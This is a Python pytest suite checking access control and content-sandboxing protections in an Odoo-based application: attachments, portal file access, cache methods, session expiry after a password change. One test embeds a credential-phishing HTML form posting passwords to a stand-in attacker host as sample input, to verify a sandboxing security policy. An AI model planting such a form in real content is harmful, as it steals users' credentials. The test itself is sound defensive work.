"""Smaller things that nobody but the one concerned should be able to do, or to learn."""

import base64

import pytest
from web_client import error_of

from odoo.modules.registry import Registry

SECRET = b"minutes of the board"


@pytest.fixture
def attached(env, database):
    """Ids of attachments of a record that only administrators may read, and of the company."""
    with Registry(database).cursor() as cr:
        attachments = env(cr=cr)["ir.attachment"].create(
            [
                {"name": "board.txt", "raw": SECRET, "res_model": model, "res_id": 1}
                for model in ("ir.mail_server", "res.company")
            ]
        )
    yield attachments.ids
    with Registry(database).cursor() as cr:
        env(cr=cr)["ir.attachment"].browse(attachments.ids).exists().unlink()


def test_existence_of_contents_is_not_told(attached, clerk, guest, admin):
    values = [{"name": "board.txt", "datas": base64.b64encode(SECRET).decode(), "mimetype": "text/plain"}]
    assert error_of(guest.call("ir.attachment", "create_unique", [values])) == "AccessError"
    own = clerk.call("ir.attachment", "create_unique", [values]).json["result"]
    assert own[0] not in attached[:1]
    # what one may read is found again
    assert clerk.call("ir.attachment", "create_unique", [values]).json["result"][0] in (*own, attached[1])


def test_portal_does_not_read_files_of_the_company(attached, guest, clerk, env, database):
    with Registry(database).cursor() as cr:
        partner = env(cr=cr)["res.users"].search([("login", "=", "guest")]).partner_id
        own = env(cr=cr)["ir.attachment"].create(
            {"name": "own.txt", "raw": b"mine", "res_model": "res.partner", "res_id": partner.id}
        )
    assert guest.get(f"/web/content/{own.id}").data == b"mine"
    assert guest.get(f"/web/content/{attached[1]}").status_code == 404
    assert clerk.get(f"/web/content/{attached[1]}").data == SECRET


@pytest.mark.parametrize(
    ("model", "method"),
    [
        ("ir.model.access", "call_cache_clearing_methods"),
        ("ir.attachment", "regenerate_assets_bundles"),
        ("res.lang", "install_lang"),
    ],
)
def test_caches_are_not_emptied_by_anybody(clerk, guest, model, method):
    for client in (clerk, guest):
        assert error_of(client.call(model, method, [])) in ("AccessError", "AccessDenied")


def test_own_password_changed_by_a_call(database, env, visitor):
    with Registry(database).cursor() as cr:
        user = env(cr=cr)["res.users"].create({"name": "Changer", "login": "changer", "password": "long enough"})
    here, elsewhere = visitor.fresh(), visitor.fresh()
    for client in (here, elsewhere):
        assert not error_of(client.authenticate(database, "changer", "long enough"))
    assert here.call("res.users", "change_password", ["long enough", "longer still"]).json["result"] is True
    assert not error_of(here.call("res.users", "read", [[user.id], ["name"]]))
    assert error_of(elsewhere.call("res.users", "read", [[user.id], ["name"]])) == "SessionExpiredException"


@pytest.mark.parametrize("mimetype", ["text/html", "application/xhtml+xml", "image/svg+xml", "text/xml"])
def test_f21_text_shown_as_a_page_is_in_a_sandbox(clerk, mimetype):
    page = "<form action='https://evil.example'><input name='password'/></form><meta http-equiv='refresh' content='0'>"
    values = {"name": "x.txt", "datas": base64.b64encode(page.encode()).decode(), "mimetype": "text/plain"}
    file = clerk.call("ir.attachment", "create", [values]).json["result"]
    plain = clerk.get(f"/web/content/{file}")
    assert plain.mimetype == "text/plain"
    shown = clerk.get(f"/web/content/{file}", query_string={"mimetype": mimetype})
    policy = shown.headers["Content-Security-Policy"]
    assert "sandbox" in policy and "form-action 'none'" in policy
